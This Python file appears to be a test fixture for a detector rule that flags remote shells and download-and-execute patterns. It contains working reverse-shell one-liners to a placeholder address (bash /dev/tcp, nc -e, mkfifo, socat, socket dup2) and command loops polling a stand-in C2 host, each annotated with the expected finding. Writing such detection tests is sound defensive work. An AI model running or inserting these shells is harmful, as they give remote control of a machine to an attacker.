"""Shells for whoever is at the other end."""

import os
import pty
import socket
import subprocess

import requests
import websocket

connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("192.0.2.9", 4444))
os.dup2(connection.fileno(), 0)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
os.dup2(connection.fileno(), 1)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
os.dup2(connection.fileno(), 2)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
pty.spawn("/bin/sh")

os.system("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

subprocess.Popen(["bash", "-c", "sh -i 5<> /dev/tcp/192.0.2.9/4444 0<&5 1>&5 2>&5"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

os.system("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

subprocess.call("nc -e /bin/sh 192.0.2.9 4444", shell=True)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error

os.system("socat tcp:192.0.2.9:4444 exec:/bin/sh,pty,stderr")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error


def serve():
    client = socket.create_connection(("192.0.2.9", 4444))
    subprocess.Popen(["/bin/sh"], stdin=client, stdout=client, stderr=client)
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning


def obey():
    client = socket.socket()
    client.connect(("192.0.2.9", 4444))
    while True:
        order = client.recv(4096).decode()
        if order.startswith("cd "):
            os.chdir(order[3:])
            continue
        output = subprocess.run(order, shell=True, capture_output=True)
#                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
        client.sendall(output.stdout)
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning


def evaluate():
    channel = websocket.create_connection("wss://c2.example.invalid/")
    while True:
        exec(channel.recv())
#       ^^^^^^^^^^^^^^^^^^^^ remote-shell: warning


def poll():
    while True:
        order = requests.get("https://c2.example.invalid/order").text
        output = subprocess.getoutput(order)
#                ^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
        requests.post("https://c2.example.invalid/result", data=output)
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: warning
